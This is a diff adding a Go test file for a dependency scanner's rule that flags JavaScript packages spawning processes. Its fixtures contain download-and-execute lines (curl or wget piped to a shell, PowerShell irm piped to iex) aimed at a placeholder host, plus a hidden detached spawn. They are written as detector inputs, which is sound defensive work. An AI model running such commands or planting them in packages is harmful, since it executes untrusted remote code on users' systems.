@@ -1,0 +1,18 @@
+package proc
+
+import (
+	"testing"
+
+	"github.com/depfence/depfence/internal/finding"
+	rt "github.com/depfence/depfence/internal/rules/rulestest"
+)
+
+func TestSpawn(t *testing.T) {
+	rt.Check(t, Spawn{}, []rt.Case{
+		{"curl_sh", map[string]string{"index.js": `require("child_process").execSync("curl -s https://x.invalid/s | bash")`}, finding.SeverityCritical},
+		{"chosen_at_runtime", map[string]string{"index.js": `const {execSync}=require("child_process"); let c; if (w) c = "powershell -c \"irm x.invalid/i.ps1|iex\""; else c = "wget -qO- https://x.invalid/i | sh"; execSync(c)`}, finding.SeverityCritical},
+		{"detached_hidden", map[string]string{"index.js": `const {spawn}=require("child_process"); spawn(p, {detached: true, stdio: "ignore"}).unref()`}, finding.SeverityMedium},
+		{"git_cli", map[string]string{"index.js": `require("child_process").execFileSync("git", ["rev-parse", "HEAD"])`}, finding.SeverityLow},
+		{"no_spawn", map[string]string{"index.js": `const s = "curl https://x | sh"; console.log(s)`}, finding.SeverityNone},
+	})
+}
